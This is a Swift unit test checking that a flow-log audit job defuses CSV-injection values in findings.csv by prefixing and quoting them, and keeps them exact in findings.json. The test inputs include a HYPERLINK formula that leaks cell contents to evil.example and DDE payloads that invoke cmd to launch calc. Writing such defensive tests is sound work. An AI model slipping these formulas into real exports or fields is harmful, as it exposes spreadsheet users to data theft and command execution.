import Foundation
import Testing

/// Customer ids, purposes and hosts in flow logs are untrusted text, and `findings.csv` is
/// opened in spreadsheets. A value that a spreadsheet would run as a formula (CSV injection)
/// is written there with a `'` before it, quoted; `findings.json` keeps it exactly.
@Suite struct HostileCSVTests {
    @Test func valuesASpreadsheetWouldRunAreTextInTheCSVAndExactInTheJSON() throws {
        let folder = try JobFolder()
        try folder.writeJob()
        try folder.writeOneCustomer()
        let customer = #"=HYPERLINK("https://evil.example/?"&A1,"open")"#
        let purpose = "@SUM(1+1)*cmd|' /C calc'!A0"
        let host = "+1+cmd|'"
        func json(_ text: String) -> String {
            String(decoding: try! JSONSerialization.data(withJSONObject: text, options: .fragmentsAllowed), as: UTF8.self)
        }
        try folder.write("flows.ndjson", """
            {"id": "f-1", "ts": "2026-11-20T10:00:00Z", "customer": \(json(customer)), "subprocessor": "sp-x", "purpose": "service"}
            {"id": "f-2", "ts": "2026-11-20T10:00:00Z", "customer": "cust-a", "subprocessor": "sp-x", "purpose": \(json(purpose))}
            {"id": "f-3", "ts": "2026-11-20T10:00:00Z", "customer": "cust-a", "destination": \(json(host)), "purpose": "service"}

            """)
        let result = try folder.runJob()
        #expect(result.exitCode == 1, "\(result.stderr)")

        let findings = try folder.findings()
        #expect(findings.finding("UNKNOWN_CUSTOMER", customer: customer, subprocessor: "sp-x", value: customer) != nil)
        #expect(findings.finding("PURPOSE_NOT_AUTHORIZED", customer: "cust-a", subprocessor: "sp-x", value: purpose) != nil)
        #expect(findings.finding("UNKNOWN_DESTINATION", customer: "cust-a", value: host) != nil)

        let csv = String(decoding: try folder.read("out/findings.csv"), as: UTF8.self)
        func quoted(_ text: String) -> String { "\"'" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
        #expect(csv.contains(",\(quoted(customer)),sp-x,customer,\(quoted(customer)),"), "\(csv)")
        #expect(csv.contains(",purpose,\(quoted(purpose)),"), "\(csv)")
        #expect(csv.contains(",destination,\(quoted(host)),"), "\(csv)")
        for value in [customer, purpose, host] {
            #expect(!csv.contains(",\(value)") && !csv.contains(",\"\(value.prefix(1))"), "\(value) unprotected")
        }
    }
}
